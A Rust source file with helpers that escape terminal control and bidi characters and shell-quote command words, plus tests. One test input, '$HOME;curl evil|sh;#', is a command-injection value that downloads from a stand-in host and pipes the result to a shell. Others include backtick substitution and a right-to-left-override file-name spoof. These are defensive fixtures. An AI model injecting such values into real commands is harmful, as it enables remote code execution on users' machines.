use std::borrow::Cow;

use syncmgr_host::text::{Part, parts};

/// Escapes characters of a plugin's text or a file name that could move the cursor, change colors,
/// or reorder or hide text on a terminal.
pub(crate) fn escape(text: &str) -> Cow<'_, str> {
    let mut found = parts(text);
    match found.next() {
        None => return Cow::Borrowed(text),
        Some(Part::Plain(plain)) if plain.len() == text.len() => return Cow::Borrowed(text),
        Some(Part::Plain(_) | Part::Harmful(_)) => {}
    }
    let mut escaped = String::with_capacity(text.len() + 16);
    for part in parts(text) {
        match part {
            Part::Plain(plain) => escaped.push_str(plain),
            Part::Harmful(character) => escaped.extend(character.escape_unicode()),
        }
    }
    Cow::Owned(escaped)
}

/// Quotes a word of a command line, so that a shell takes it as one word without expansions. Every
/// command that is printed for pasting uses this function.
pub(crate) fn quote(word: &str) -> Cow<'_, str> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.,:=/+@%".contains(&byte);
    let first = word.as_bytes().first();
    let is_plain_here = |byte: u8| is_plain(byte) || cfg!(windows) && byte == b'\\';
    if first.is_some_and(|first| *first != b'=') && word.bytes().all(is_plain_here) {
        return Cow::Borrowed(word);
    }
    let escaped = escape(word);
    Cow::Owned(match cfg!(windows) {
        // Paths on Windows contain no `"`.
        true => format!("\"{escaped}\""),
        false => format!("'{}'", escaped.replace('\'', r"'\''")),
    })
}

/// Escapes a text of several lines, and marks all lines but the first as part of it.
pub(crate) fn escape_lines(text: &str) -> String {
    const MOST_LINES: usize = 20;
    let lines = text.trim_end().lines();
    let more = lines.clone().count().saturating_sub(MOST_LINES);
    let mut shown: Vec<_> = lines.take(MOST_LINES).map(escape).collect();
    if more > 0 {
        shown.push(format!("and {more} more lines").into());
    }
    shown.join("\n  | ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn harmful_characters_are_escaped_and_text_is_not() {
        for (text, expected) in [
            ("plain – ünïcode 🦀 \u{5d0}", "plain – ünïcode 🦀 \u{5d0}"),
            ("red\u{1b}[31m", "red\\u{1b}[31m"),
            ("two\nlines\r", "two\\u{a}lines\\u{d}"),
            ("exe.\u{202e}gpj", "exe.\\u{202e}gpj"),
            ("c1\u{9b}2J", "c1\\u{9b}2J"),
            ("hid\u{200b}den", "hid\\u{200b}den"),
            ("a\u{fe0f}\u{3164}", "a\\u{fe0f}\\u{3164}"),
        ] {
            assert_eq!(escape(text), expected);
        }
    }

    #[test]
    fn further_lines_of_a_text_are_marked() {
        for (text, expected) in [
            ("one", "one"),
            ("one\n", "one"),
            ("one\r\ntwo\n\nerror: me\u{1b}", "one\n  | two\n  | \n  | error: me\\u{1b}"),
            ("", ""),
            (&"x\n".repeat(30), &format!("{}and 10 more lines", "x\n  | ".repeat(20))),
        ] {
            assert_eq!(escape_lines(text), expected);
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_quoted_word_is_one_word_for_a_shell() {
        for word in [
            "",
            "plain",
            "left=PATH:ro",
            "/tmp/a b",
            "$HOME;curl evil|sh;#",
            "it's `id`",
            "~root",
            "*",
            "=ls",
            "a\\b\"c",
            "ünï",
            "--dir x=/",
        ] {
            let script = format!("printf %s {}", quote(word));
            let output = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
            assert_eq!(String::from_utf8_lossy(&output.stdout), word, "{script}");
        }
        assert_eq!(quote("left=PATH:ro"), "left=PATH:ro");
        // A command with harmful characters does not work.
        assert_eq!(quote("a\u{1b}"), "'a\\u{1b}'");
    }
}
